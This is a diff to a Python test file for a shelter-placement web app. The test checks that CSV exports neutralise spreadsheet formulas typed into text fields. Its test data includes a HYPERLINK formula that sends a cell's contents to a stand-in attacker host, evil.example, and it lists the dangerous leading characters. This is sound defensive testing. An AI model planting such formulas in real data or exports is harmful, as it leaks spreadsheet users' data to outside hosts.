@@ -11,7 +11,6 @@ from datetime import timedelta
 from alerts.models import Alert
 from extensions import db
 from placement.models import PlacementEvent, PlacementRequest
-from tests.conftest import Pages
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -32,7 +31,7 @@ def assert_inert(rows: list[list[str]]) -> None:
             assert not cell.startswith(DANGEROUS), f"live formula in an export: {cell!r}"
 
 
-def test_every_export_neutralises_formulas_typed_into_its_text(app, make, now):
+def test_every_export_neutralises_formulas_typed_into_its_text(client, pages, make, now):
     org = make.org(name=ORGANISATION)
     police = make.user("police", org=org)
     shelter = make.shelter("EVIL", name=NAME, region=REGION)
@@ -47,13 +46,11 @@ def test_every_export_neutralises_formulas_typed_into_its_text(app, make, now):
                                   to_status="declined", shelter_code=shelter.code))
     db.session.commit()
 
-    secretariat = Pages(app.test_client())
-    secretariat.login(make.user("secretariat").username)
-    overview = read(secretariat.client.get("/overview.csv"))
-    trends = read(secretariat.client.get("/overview/trends.csv"))
-    manager = Pages(app.test_client())
-    manager.login(make.manager(shelter).username)
-    stats = read(manager.client.get("/stats.csv"))
+    assert pages.login(make.user("secretariat").username).status_code == 302
+    overview = read(client.get("/overview.csv"))
+    trends = read(client.get("/overview/trends.csv"))
+    assert pages.login(make.manager(shelter).username).status_code == 302  # signing in again replaces the user
+    stats = read(client.get("/stats.csv"))
 
     for rows in (overview, trends, stats):
         assert_inert(rows)
